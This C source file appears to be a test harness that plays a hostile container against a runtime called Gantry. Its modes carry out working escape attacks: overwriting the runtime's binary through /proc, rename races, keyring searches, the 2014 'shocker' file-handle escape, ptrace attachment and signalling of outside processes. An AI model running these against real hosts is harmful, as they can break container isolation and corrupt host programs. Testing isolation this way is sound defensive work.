/* What a hostile container does. Each mode is one attack; an attack that succeeds prints a line
 * that begins with "ESCAPED". The modes that say "ready" go on until their input ends, the others end
 * by themselves. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Whether whoever started this has not closed its input yet. */
static int wanted(void) {
    struct pollfd input = {0, POLLIN, 0};
    return poll(&input, 1, 0) == 0;
}

static void ready(void) {
    puts("ready");
    fflush(stdout);
}

/* Waits for any process whose program is not `own`, and writes over that program. */
static int overwrite(const char *own) {
    char path[300], target[4096];
    ready();
    while (wanted()) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length <= 0) continue;
            target[length] = 0;
            if (!strcmp(target, own) || !strcmp(target, "/attacker")) continue;
            printf("seen %s\n", target);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            for (int round = 0; round < 20000; round++) {
                int writable = open(path, O_WRONLY);
                if (writable >= 0) {
                    if (write(writable, "#!/ESCAPED\n", 11) > 0) printf("ESCAPED into %s\n", target);
                    close(writable);
                    break;
                }
                if (errno != ETXTBSY) break;
            }
            close(fd);
            fflush(stdout);
        }
        if (proc) closedir(proc);
    }
    return 0;
}

/* Exchanges two names, over and over. */
static int swap(const char *a, const char *b) {
    ready();
    while (wanted())
        for (int i = 0; i < 1000; i++)
            syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
    return 0;
}

/* Looks for a key of whoever started the container. */
static int keyring(const char *name) {
    const int rings[] = {-1, -2, -3, -4, -5}; /* thread, process, session, user, user session */
    for (unsigned i = 0; i < sizeof rings / sizeof *rings; i++) {
        long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, rings[i], "user", name, 0);
        if (key > 0) printf("ESCAPED: ring %d has key %ld\n", rings[i], key);
    }
    return 0;
}

/* Adds a key to the session and becomes another program: the victim's side of `keyring`. */
static int with_key(const char *name, char **command) {
    if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, NULL) < 0) return perror("join"), 1;
    if (syscall(SYS_add_key, "user", name, "secret", 6, -3) < 0) return perror("add_key"), 1;
    execv(command[0], command);
    return perror("exec"), 1;
}

/* Opens the root of the host's file system by its handle (the "shocker" of 2014). */
static int handle(void) {
    struct { unsigned bytes; int type; unsigned char data[8]; } root = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
    const char *places[] = {"/", "/etc/hosts", "/etc/resolv.conf", "/volume"};
    for (unsigned i = 0; i < 4; i++) {
        int at = open(places[i], O_RDONLY);
        int fd = syscall(SYS_open_by_handle_at, at, &root, O_RDONLY);
        if (fd >= 0) printf("ESCAPED: the root of %s is open\n", places[i]);
    }
    return 0;
}

/* Every open file and the working directory, of this and of all other processes. */
static int files(void) {
    char folder[300], path[700], target[4096];
    DIR *proc = opendir("/proc");
    struct dirent *process, *entry;
    while (proc && (process = readdir(proc))) {
        if (process->d_name[0] < '1' || process->d_name[0] > '9') continue;
        snprintf(folder, sizeof folder, "/proc/%s/fd", process->d_name);
        DIR *fds = opendir(folder);
        while (fds && (entry = readdir(fds))) {
            if (entry->d_name[0] == '.' || (fds && dirfd(fds) == atoi(entry->d_name))) continue;
            snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length < 0) continue;
            target[length] = 0;
            /* The events that an init of Gantry's waits for lead nowhere. */
            if (!strncmp(target, "anon_inode:", 11)) continue;
            if (atoi(entry->d_name) > 2 && strcmp(target, "/proc") != 0)
                printf("ESCAPED? %s -> %s\n", path, target);
        }
        if (fds) closedir(fds);
    }
    return 0;
}

/* Attaches to every other process, as they come, and says which were not of this program. */
static int trace(void) {
    char path[300], target[4096];
    ready();
    while (wanted()) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            int pid = atoi(entry->d_name);
            if (pid < 1 || pid == getpid()) continue;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) continue;
            ptrace(PTRACE_INTERRUPT, pid, 0, 0);
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            target[length > 0 ? length : 0] = 0;
            if (strstr(target, "gantry")) printf("ESCAPED: attached to %s\n", target);
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
        if (proc) closedir(proc);
    }
    return 0;
}

/* Signals and limits of processes that are not this container's. */
static int signals(int pid) {
    if (kill(pid, 0) == 0) printf("ESCAPED: process %d can be signalled\n", pid);
    return 0;
}

int main(int argc, char **argv) {
    const char *mode = argc > 1 ? argv[1] : "";
    if (!strcmp(mode, "overwrite")) return overwrite(argv[2]);
    if (!strcmp(mode, "swap")) return swap(argv[2], argv[3]);
    if (!strcmp(mode, "keyring")) return keyring(argv[2]);
    if (!strcmp(mode, "with-key")) return with_key(argv[2], argv + 3);
    if (!strcmp(mode, "handle")) return handle();
    if (!strcmp(mode, "files")) return files();
    if (!strcmp(mode, "trace")) return trace();
    if (!strcmp(mode, "signal")) return signals(atoi(argv[2]));
    fprintf(stderr, "no such mode\n");
    return 2;
}
